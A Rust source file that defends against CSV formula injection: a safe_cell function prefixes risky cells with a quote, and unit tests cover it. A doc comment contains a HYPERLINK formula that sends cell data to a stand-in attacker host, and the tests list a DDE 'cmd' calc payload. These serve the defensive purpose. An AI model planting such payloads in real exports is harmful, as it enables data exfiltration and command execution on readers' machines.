//! Cells for the CSV files people open in a spreadsheet.
//!
//! CSV (formula) injection: Excel, WPS and LibreOffice run a cell that starts with `=`,
//! `+`, `-` or `@` (and, per OWASP, tab or carriage return) as a formula, so a lead named
//! `=HYPERLINK("https://evil.example?"&A1,"click")` would act in the reader's
//! spreadsheet. Every export writes its text through [`safe_cell`], which prefixes such a
//! cell with `'` (shown as text, the quote hidden). Plain numbers (`-0.25`) stay numbers.

use std::borrow::Cow;

/// `text` as a cell no spreadsheet evaluates.
pub fn safe_cell(text: &str) -> Cow<'_, str> {
    let risky = text
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !plain_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A decimal number a spreadsheet reads as a value: `-0.25`, `+3`, `-1.5e3`; not `-inf`.
fn plain_number(text: &str) -> bool {
    text.bytes()
        .all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
        && text.bytes().any(|b| b.is_ascii_digit())
        && text.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised() {
        for text in [
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "-",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "-inf",
            "+NaN",
            "--1",
        ] {
            let cell = safe_cell(text);
            assert_eq!(cell, format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_are_untouched() {
        for text in [
            "-0.25",
            "-1200.00",
            "+3",
            "-1.5e3",
            "0.0",
            "",
            "spring",
            "北京纷扬",
            "a=b",
            "x@y.com",
            " =1",
        ] {
            assert!(matches!(safe_cell(text), Cow::Borrowed(t) if t == text), "{text:?}");
        }
    }
}
